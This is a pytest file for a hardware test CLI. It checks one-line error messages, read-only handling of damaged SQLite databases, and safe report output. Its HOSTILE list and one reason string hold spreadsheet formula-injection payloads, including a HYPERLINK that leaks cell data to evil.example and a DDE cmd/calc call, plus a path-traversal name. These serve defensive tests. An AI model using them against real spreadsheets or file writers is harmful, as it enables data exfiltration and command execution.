"""Issue 20, items 5-7, 9 and 11: each user mistake is one line `hil: error: ...` naming the file, exit code 2,
no traceback, nothing written as valid; the report's file names and CSV cells are safe; read commands never
write."""

from __future__ import annotations

import csv
import hashlib
import sqlite3
from pathlib import Path

import pytest
import yaml

from hil.cli import main
from hil.report import write_report
from hil.results import ResultsStore

ROOT = Path(__file__).resolve().parents[2]
PNG = ROOT / "firmware" / "docs" / "switch-cost.png"


def _one_line_error(capsys: pytest.CaptureFixture, argv: list[str]) -> str:
    """Run the CLI; assert exit 2 and exactly one `hil: error:` line on stderr; return that line."""
    rc = main(argv)
    err = capsys.readouterr().err
    assert rc == 2, err
    assert err.startswith("hil: error: ") and err.count("\n") == 1, err
    assert "Traceback" not in err
    return err.rstrip("\n")


# -- items 5, 6 and 7: the bench file ------------------------------------------------------------------------


def _bench(**board: object) -> dict:
    bench = yaml.safe_load((ROOT / "bench.yaml").read_text())
    first = {k: v for k, v in bench["boards"][0].items() if k != "cpu_mhz"}  # the chip's own clock
    bench["boards"] = [{**first, **board}]
    return bench


def test_a_bench_file_that_is_not_utf8_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    bench = tmp_path / "bench.yaml"
    bench.write_bytes("# café, latin-1\n".encode("latin-1") + (ROOT / "bench.yaml").read_bytes())
    line = _one_line_error(capsys, ["sim", "--bench", str(bench)])
    assert line == f"hil: error: {bench}: not UTF-8 text (byte 0xe9 on line 1); save the bench file as UTF-8"


@pytest.mark.parametrize("text", ["", "\n\n", "# only a comment, the rest was cut off\n"])
def test_an_empty_bench_file_is_refused_not_taken_as_the_virtual_bench(
        tmp_path: Path, capsys: pytest.CaptureFixture, text: str) -> None:
    bench = tmp_path / "lab-bench.yaml"
    bench.write_text(text)
    line = _one_line_error(capsys, ["sim", "--bench", str(bench)])
    assert line.startswith(f"hil: error: {bench}: the bench file is empty (no settings; a truncated copy?)")


@pytest.mark.parametrize(("chip", "ram"), [("esp32", 520 * 1024), ("esp32c3", 400 * 1024)])
def test_an_arena_larger_than_the_chips_ram_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture, chip: str,
                                                       ram: int) -> None:
    bench = tmp_path / "bench.yaml"
    bench.write_text(yaml.safe_dump(_bench(chip=chip, arena_bytes=1_000_000_000_000_000)))
    line = _one_line_error(capsys, ["sim", "--bench", str(bench)])
    assert line == (f"hil: error: {bench}: boards.0: arena_bytes 1000000000000000 is larger than the {chip}'s "
                    f"{ram} bytes of RAM; set it to the firmware's tensor arena (the factory's arena_bytes plus "
                    "a margin)")
    bench.write_text(yaml.safe_dump(_bench(chip=chip, arena_bytes=ram + 1)))
    assert "is larger than" in _one_line_error(capsys, ["sim", "--bench", str(bench)])


def test_an_arena_within_the_chips_ram_and_the_default_arena_are_accepted() -> None:
    from hil.bench import parse_bench

    board = _bench(chip="esp32", arena_bytes=520 * 1024)["boards"][0]
    assert parse_bench({"boards": [board]}).boards[0].arena_bytes == 520 * 1024
    qemu = {"name": "stm32", "chip": "stm32f405", "port": "qemu"}  # 256 KB default, 192 KB of RAM
    assert parse_bench({"boards": [qemu]}).boards[0].arena_bytes == 192 * 1024


# -- item 5: the budget file; nothing recorded -----------------------------------------------------------------


def test_a_budget_file_that_is_not_utf8_is_one_line_and_records_nothing(
        tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    budgets = tmp_path / "budgets.yaml"
    budgets.write_bytes((ROOT / "budgets.yaml").read_bytes() + "\n# 5 % de marge, réglée\n".encode("latin-1"))
    line = _one_line_error(capsys, ["measure", f"--budgets={budgets}", f"--results-db={tmp_path / 'r.sqlite'}",
                                    f"--models-dir={tmp_path / 'models'}", f"--report-dir={tmp_path / 'report'}"])
    lines = (ROOT / "budgets.yaml").read_bytes().count(b"\n") + 2
    assert line == f"hil: error: {budgets}: not UTF-8 text (byte 0xe9 on line {lines}); save the budget file as UTF-8"
    assert not (tmp_path / "r.sqlite").exists() and not (tmp_path / "models").exists()


# -- item 9: names into file names, cells into spreadsheets ---------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "a/b", "../../escape", "+1+cmd", "@SUM(1)",
           "-2+3", "\tTAB"]  # fmt: skip


def test_hostile_variant_names_become_safe_files_and_inert_csv_cells(tmp_path: Path) -> None:
    """A database may hold any name (an old or foreign run): the report still writes, every PNG lands in the
    report folder, and no CSV cell starts like a formula; numbers (negative ones too) stay numbers."""
    db = tmp_path / "r.sqlite"
    with ResultsStore(db) as store:
        run = store.start_run(bench="b.yaml", simulated=True, git_commit="c", git_branch="main")
        for name in HOSTILE:
            store.record(run, name, "latency_ms", 12.5)
            store.record(run, name, "power_mw", None, valid=False, reason="=cmd|' /C calc'!A0")
            store.add_artifact(run, name, "roc", PNG)
        store.record(run, "ok-variant", "pulse_vs_latency_pct", -0.25)
        store.finish_run(run, "passed")
        out = write_report(store, run, tmp_path / "report", trend_runs=0)
    files = sorted(p.name for p in out.rglob("*") if p.is_file())
    assert all(p.parent == out for p in out.rglob("*")), files  # nothing in a sub-folder, nothing outside
    assert not (tmp_path / "escape").exists()
    rocs = [f for f in files if f.startswith("roc-")]
    assert len(rocs) == len(HOSTILE) and "roc-a_b-" + hashlib.sha256(b"a/b").hexdigest()[:8] + ".png" in rocs
    with (out / "results.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    cells = [c for r in rows for c in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-") and
                not _number(c)]
    assert {r["variant"] for r in rows} >= {"'" + HOSTILE[0], "a/b", "'+1+cmd", "'@SUM(1)", "'-2+3", "'\tTAB"}
    assert {r["reason"] for r in rows if r["metric"] == "power_mw"} == {"'=cmd|' /C calc'!A0"}
    assert [r["value"] for r in rows if r["variant"] == "ok-variant"] == ["-0.25"]  # a number, untouched


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- item 11: a damaged results database; read commands never write -------------------------------------------


def _db(path: Path) -> Path:
    with ResultsStore(path) as s:
        for i in range(2):
            run = s.start_run(bench="b", simulated=True, git_commit="c", git_branch="main")
            s.record(run, "v", "latency_ms", 10.0 + i)
            s.finish_run(run, "passed")
    return path


def _digest(folder: Path) -> dict[str, str]:
    """The files of `folder` by content; SQLite's shared-memory index (`-shm`) and an empty `-wal`, which a
    read-only reader of a WAL database may leave, hold no data and are left out."""
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir() if p.is_file()
            and not p.name.endswith("-shm") and not (p.name.endswith("-wal") and p.stat().st_size == 0)}


READS = {"report": ["report", "--run", "2"], "history": ["history"], "history --runs": ["history", "--runs"],
         "gate": ["gate", "--run", "2", "--baseline", "1"], "noise": ["noise"]}  # fmt: skip


@pytest.mark.parametrize("command", list(READS))
@pytest.mark.parametrize(("damage", "message"), [
    ("UPDATE runs SET meta = '{not json' WHERE id = 2",
     "damaged results database: run 2: column meta is not JSON (Expecting property name enclosed in double quotes"),
    ("UPDATE runs SET flags = '[1, 2]' WHERE id = 2",
     "damaged results database: run 2: column flags is a JSON list, expected a JSON object"),
    ("DROP TABLE outcomes", "damaged results database: table outcomes is missing"),
    ("DROP TABLE measurements", "damaged results database: table measurements is missing"),
])
def test_a_damaged_database_is_one_line_and_is_left_as_it_was(tmp_path: Path, capsys: pytest.CaptureFixture,
                                                              command: str, damage: str, message: str) -> None:
    db = _db(tmp_path / "r.sqlite")
    with sqlite3.connect(db) as c:
        c.execute(damage)
    c.close()
    before = _digest(tmp_path)
    line = _one_line_error(capsys, [*READS[command], "--db", str(db),
                                    *(["--out", str(tmp_path / "rep")] if command == "report" else [])])
    assert line.startswith(f"hil: error: {db}: {message}")
    assert line.endswith("restore it from a backup or pass another --results-db/--db path")
    assert _digest(tmp_path) == before and not (tmp_path / "rep").exists()


@pytest.mark.parametrize("command", list(READS))
def test_read_commands_on_an_empty_file_write_nothing_into_it(tmp_path: Path, capsys: pytest.CaptureFixture,
                                                              command: str) -> None:
    db = tmp_path / "new.sqlite"
    db.touch()
    line = _one_line_error(capsys, [*READS[command], "--db", str(db),
                                    *(["--out", str(tmp_path / "rep")] if command == "report" else [])])
    assert line.startswith(f"hil: error: {db}: empty, not a results database yet")
    assert db.read_bytes() == b"" and sorted(p.name for p in tmp_path.iterdir()) == ["new.sqlite"]
    line = _one_line_error(capsys, [*READS[command], "--db", str(tmp_path / "absent.sqlite")])
    assert "no results database" in line and not (tmp_path / "absent.sqlite").exists()


def test_an_older_schema_is_read_without_being_upgraded(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """A version-2 file (no trials table) reads through empty TEMP tables: the file keeps its version."""
    db = _db(tmp_path / "v2.sqlite")
    with sqlite3.connect(db) as c:
        c.execute("DROP TABLE trials")
        c.execute("PRAGMA user_version = 2")
    c.close()
    assert main(["history", "--db", str(db)]) == 0
    assert "10" in capsys.readouterr().out
    with sqlite3.connect(db) as c:
        assert c.execute("PRAGMA user_version").fetchone()[0] == 2
        assert "trials" not in {r[0] for r in c.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    c.close()


def test_the_writer_still_upgrades_and_refuses_a_damaged_current_schema(tmp_path: Path) -> None:
    from hil.errors import HilError

    db = _db(tmp_path / "r.sqlite")
    with sqlite3.connect(db) as c:
        c.execute("DROP TABLE variants")
    c.close()
    with pytest.raises(HilError, match="damaged results database: table variants is missing"):
        ResultsStore(db)
